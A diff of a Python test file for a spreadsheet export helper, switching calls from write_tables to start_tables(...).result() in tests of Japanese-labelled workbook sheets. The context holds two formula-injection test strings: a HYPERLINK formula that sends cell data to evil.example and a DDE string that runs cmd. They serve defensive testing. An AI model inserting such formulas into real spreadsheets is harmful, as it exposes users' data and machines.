@@ -9,7 +9,7 @@ import pandas as pd
 import pytest
 
 from helpers.core.tables import read_csv, write_csv
-from helpers.present.export import csv_safe_frame, looks_like_formula, neutralise_text, write_tables
+from helpers.present.export import csv_safe_frame, looks_like_formula, neutralise_text, start_tables
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -52,9 +52,9 @@ def _tables() -> dict[str, pd.DataFrame]:
 
 @pytest.fixture
 def written(tmp_path):
-    paths = write_tables(
+    paths = start_tables(
         _tables(), tmp_path, "tables.xlsx", {"metrics": "成果指標", "items": "取組"}
-    )
+    ).result()
     return tmp_path, paths
 
 
@@ -140,7 +140,7 @@ def test_the_audit_counts_are_numeric_cells_in_the_workbook(tmp_path):
         {"check": ["area_row_sum"], "scope": ["area 1"], "expected": ["7"], "actual": ["7"],
          "ok": [True], "detail": ["分野1"]}
     )  # fmt: skip
-    write_tables({"audit": audit}, tmp_path, sheet_names={"audit": "検算"})
+    start_tables({"audit": audit}, tmp_path, sheet_names={"audit": "検算"}).result()
     ws = openpyxl.load_workbook(tmp_path / "tables.xlsx")["検算"]
     assert [c.value for c in ws[1]] == [
         "検算の種類",
@@ -172,7 +172,7 @@ def test_workbook_layout_and_missing_values(tmp_path):
             "note": [None, ""],
         }
     )
-    write_tables({"metrics": metrics}, tmp_path, sheet_names={"metrics": "成果指標"})
+    start_tables({"metrics": metrics}, tmp_path, sheet_names={"metrics": "成果指標"}).result()
     ws = openpyxl.load_workbook(tmp_path / "tables.xlsx")["成果指標"]
     assert ws.freeze_panes == "A2"
     assert [c.value for c in ws[1]] == ["指標ID", "成果指標", "今期の値", "備考"]
